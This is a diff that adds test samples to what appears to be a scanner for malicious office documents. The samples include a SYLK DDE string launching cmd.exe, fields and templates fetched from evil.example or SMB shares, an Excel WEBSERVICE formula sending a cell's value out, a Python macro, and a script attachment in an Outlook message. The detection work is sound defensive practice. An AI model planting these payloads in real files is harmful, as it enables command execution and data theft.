@@ -187,7 +187,17 @@ SAMPLES: dict[str, Sample] = {
     "a CSV with bars": Sample("a.csv", b"a|b|c!\r\n=1+1|2|x\r\n"),
     "a page number": Sample("a.docx", _document(office.field(" PAGE \\* MERGEFORMAT "))),
     "a word that ends in DDE": Sample("a.docx", _document(office.field(" REF ADDE_1 "))),
+    "DDE in a SYLK file": Sample("a.slk", b"ID;P\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\cmd.exe /c calc'!''\r\nE\r\n", ("dde",)),
+    "a SYLK file with bars": Sample("a.slk", b"ID;P\r\nC;X1;Y1;K\"a|b!\";E1+1\r\nE\r\n"),
     # what is fetched
+    "a picture on a share": Sample("a.docx", _related("image", "file://198.51.100.1/s/a.png"), ("remote",)),
+    "a text on a share": Sample("a.docx", _document(office.field('INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a.docx"')), ("remote",)),
+    "a text from elsewhere": Sample("a.rtf", office.rich("{\\field{\\*\\fldinst INCLUDETEXT \"https://evil.example/a\"}}"), ("remote",)),
+    "a picture on a share, in a field": Sample("a.docx", _document(office.field('INCLUDEPICTURE "\\\\\\\\198.51.100.1\\\\a.png" \\d')), ("remote",)),
+    "a picture from elsewhere, in a field": Sample("a.docx", _document(office.field('INCLUDEPICTURE "https://example.org/a.png" \\* MERGEFORMATINET'))),
+    "a formula that asks the web": Sample(
+        "a.xlsx", office.zipped({"xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></worksheet>'}), ("remote",)
+    ),
     "a template from elsewhere": Sample("a.docx", _related("attachedTemplate", "https://evil.example/t.dotm"), ("remote",)),
     "a template on a share": Sample("a.docx", _related("attachedTemplate", "file:///\\\\evil.example\\s\\t.dotm"), ("remote",)),
     "a template in the own network": Sample("a.docx", _related("attachedTemplate", "file:///\\\\server\\s\\t.dotm")),
@@ -207,7 +217,14 @@ SAMPLES: dict[str, Sample] = {
         "a.rtf", office.rich("{\\*\\\\\\template http://evil.example/}"), ("remote",)
     ),
     "a web query": Sample("a.iqy", b"WEB\r\n1\r\nhttp://evil.example/x\r\n", ("remote",)),
+    "a macro in Python": Sample("a.odt", _odf("", **{"Scripts/python/a.py": "import os"}), ("macro_suspicious",)),
     # what is embedded
+    "a script in a mail of Outlook": Sample(
+        "a.msg", office.compound({"__attach/__substg1.0_37010102": b"WScript.Echo(1)", "__attach/__substg1.0_3707001F": "a.js".encode("utf-16-le")}), ("program",)
+    ),
+    "a letter in a mail of Outlook": Sample(
+        "a.msg", office.compound({"__attach/__substg1.0_37010102": b"Dear all", "__attach/__substg1.0_3707001F": "a.txt".encode("utf-16-le")})
+    ),
     "a script in a package": Sample("a.doc", _embedded("invoice.js"), ("program",)),
     "a program under another name": Sample("a.doc", _embedded("letter.txt", b"MZ".ljust(128, b"\0") + b"PE\0\0"), ("program",)),
     "a letter in a package": Sample("a.doc", _embedded("letter.txt")),
